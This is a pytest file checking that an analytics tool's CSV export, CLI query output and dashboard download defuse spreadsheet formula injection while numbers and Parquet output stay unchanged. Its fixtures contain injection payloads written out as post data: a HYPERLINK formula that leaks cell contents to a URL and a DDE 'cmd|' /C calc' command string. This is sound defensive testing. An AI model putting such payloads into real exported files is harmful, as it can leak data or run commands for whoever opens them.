"""CSV never hands a spreadsheet a formula: export, ``query --csv`` and the dashboard download.

Posts whose title, text and author begin with each character a spreadsheet treats as the
start of a formula are stored, written out through every CSV path and read back with the
csv module: every such cell starts with ``'``, numbers are unchanged, Parquet is raw.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from streamlit.runtime.media_file_manager import MediaFileManager

from analytics.core.models import Mention, Post, RunBatch, RunRecord, ScoredPost, Sentiment
from analytics.queries.alerts import spike_alert
from analytics.queries.export import export, relations
from analytics.queries.spreadsheet import FORMULA_STARTS
from analytics.store import connect, prepare_database, save_batches, transaction
from analytics.store.alerts import record_new
from tests.analytics.queries.test_alerts_export import FakeSpike
from tests.analytics.store.test_store import ENTITIES
from tests.conftest import write_config
from tests.dashboard.test_pages import build_sample_db, open_app, sample_config
from tests.e2e.test_cli import FANPULSE

MARK = "zqxformula"  # a word no other post contains, to find these posts


def hostile_posts(now: datetime) -> list[ScoredPost]:
    """One post per dangerous first character, in title, text and author alike."""
    posts = []
    for i, start in enumerate(FORMULA_STARTS):
        post = Post(
            post_id=f"rss:hostile-{i}",
            source="rss",
            source_name="hostile-feed",
            channel="http://127.0.0.1/hostile",
            url=f"https://example.com/hostile/{i}",
            author=f"{start}author {i}",
            title=f'{start}HYPERLINK("http://127.0.0.1/x?leak="&A1, "Heartstopper") {MARK}',
            text=f"{start}cmd|' /C calc'!A0 Heartstopper {MARK} {i}",
            lang="en",
            created_at=now - timedelta(minutes=i + 1),
            likes=i,
        )
        posts.append(
            ScoredPost(
                post=post,
                # Negative numbers begin with "-" too: in a numeric column they stay numbers.
                sentiment=Sentiment(-0.5, -0.25 - i / 100, "negative", "test"),
                content_hash=f"hostile{i}",
                mentions=[Mention(post.post_id, "show:heartstopper", "Heartstopper")],
            )
        )
    return posts


def store_hostile(db: Path, now: datetime, entities: list[Any] | None = None) -> list[ScoredPost]:
    posts = hostile_posts(now)
    run = RunRecord("hostile-feed", "rss", "http://127.0.0.1/hostile", now, now, "ok", 6, 0)
    if entities is not None:
        prepare_database(db, entities)
    save_batches(db, [RunBatch(run=run, posts=posts, states=[])])
    return posts


def read_csv(data: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data, newline="")))


def assert_defused(rows: list[dict[str, str]], posts: list[ScoredPost]) -> None:
    """Each dangerous cell is the stored text behind one ``'``; numbers are as stored."""
    by_id = {row["post_id"]: row for row in rows}
    assert set(by_id) == {p.post.post_id for p in posts}
    for scored in posts:
        row, post = by_id[scored.post.post_id], scored.post
        for column in ("title", "text", "author"):
            assert row[column] == "'" + getattr(post, column), (column, row[column])
        assert float(row["sentiment"]) == scored.sentiment.sentiment
        assert row["sentiment"].startswith("-")  # a number, not defused text
        if "vader_compound" in row:
            assert row["vader_compound"] == "-0.5"
        if "likes" in row:
            assert int(row["likes"]) == post.likes


NOW = datetime(2026, 11, 24, 9, 0, tzinfo=UTC)


def test_export_csv_defuses_text_and_parquet_stays_raw(tmp_path: Path) -> None:
    db = tmp_path / "e.duckdb"
    posts = store_hostile(db, NOW, ENTITIES)
    with connect(db, read_only=True) as con:
        written = export(con, tmp_path / "posts.csv")
        export(con, tmp_path / "posts.parquet")
        export(con, tmp_path / "mentions.csv", what="post_mentions")
    rows = read_csv((tmp_path / "posts.csv").read_bytes().decode("utf-8"))
    assert written.rows == len(rows) == len(FORMULA_STARTS)
    assert_defused(rows, posts)
    assert {row["entities"] for row in rows} == {"show:heartstopper"}
    # A view with post text goes through the same writer.
    assert_defused(read_csv((tmp_path / "mentions.csv").read_bytes().decode("utf-8")), posts)

    raw = pq.read_table(tmp_path / "posts.parquet").to_pylist()
    assert {r["post_id"]: (r["title"], r["text"], r["author"]) for r in raw} == {
        p.post.post_id: (p.post.title, p.post.text, p.post.author) for p in posts
    }
    assert {r["sentiment"] for r in raw} == {p.sentiment.sentiment for p in posts}


def test_every_table_and_view_exports_to_csv_including_list_columns(tmp_path: Path) -> None:
    db = tmp_path / "e.duckdb"
    store_hostile(db, NOW, ENTITIES)
    with connect(db) as con, transaction(con):
        record_new(con, [spike_alert(FakeSpike())], NOW)
        # A list column (hooks still owed the alert): the cause of ArrowInvalid before.
        con.execute("UPDATE alerts SET undelivered_to = ['=cmd|x', 'hook-b'], title = '@SUM(1)'")
    with connect(db, read_only=True) as con:
        names = sorted(relations(con))
        for name in names:
            export(con, tmp_path / f"{name}.csv", what=name)
            export(con, tmp_path / f"{name}.parquet", what=name)
    assert {"alerts", "posts", "mentions", "collection_runs", "daily_mentions"} <= set(names)
    alerts = read_csv((tmp_path / "alerts.csv").read_bytes().decode("utf-8"))
    assert len(alerts) == 1
    assert json.loads(alerts[0]["undelivered_to"]) == ["=cmd|x", "hook-b"]
    assert alerts[0]["title"] == "'@SUM(1)"
    assert pq.read_table(tmp_path / "alerts.parquet").column("undelivered_to").to_pylist() == [
        ["=cmd|x", "hook-b"]
    ]
    for name in names:  # no cell anywhere starts a formula
        text = (tmp_path / f"{name}.csv").read_bytes().decode("utf-8")
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not [cell for cell in row if runs_as_formula(cell)], name


def runs_as_formula(cell: str) -> bool:
    """A cell a spreadsheet would evaluate: a formula start that is not a plain number."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def test_query_csv_defuses_text_and_keeps_numbers(tmp_path: Path) -> None:
    db = tmp_path / "q.duckdb"
    posts = store_hostile(db, NOW, ENTITIES)
    config = write_config(tmp_path, [], database=db)
    sql = (
        "SELECT post_id, author, title, text, vader_compound, sentiment, likes, "
        "['=x'] AS tags, -3 AS minus FROM posts ORDER BY post_id"
    )
    # Bytes, not text mode: text mode would turn the CR some cells begin with into LF.
    result = subprocess.run(
        [FANPULSE, "query", "--csv", sql],
        capture_output=True,
        timeout=120,
        env={**os.environ, "FANPULSE_CONFIG": str(config)},
    )
    assert result.returncode == 0, result.stderr
    rows = read_csv(result.stdout.decode("utf-8"))
    assert_defused(rows, posts)
    assert {row["tags"] for row in rows} == {'["=x"]'}
    assert {row["minus"] for row in rows} == {"-3"}


def test_dashboard_download_defuses_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, make_config: Callable[..., Path]
) -> None:
    config = sample_config(make_config, tmp_path, events=False)
    build_sample_db(config, posts=200)
    db = tmp_path / "fanpulse.duckdb"
    posts = store_hostile(db, datetime.now(UTC))
    # The page hands Streamlit a callable that builds the file when clicked: keep it.
    downloads: list[Callable[[], bytes]] = []
    real_add_deferred = MediaFileManager.add_deferred

    def keep(self: MediaFileManager, data: Callable[[], bytes], *args: Any, **kw: Any) -> str:
        downloads.append(data)
        return real_add_deferred(self, data, *args, **kw)

    monkeypatch.setattr(MediaFileManager, "add_deferred", keep)
    app = open_app(config, monkeypatch, "explore")
    downloads.clear()
    app.text_input(key="explore_text").set_value(MARK)
    app.run()
    assert not app.exception, [e.value for e in app.exception]
    assert len(downloads) == 1
    rows = read_csv(downloads[0]().decode("utf-8"))
    assert_defused(rows, posts)
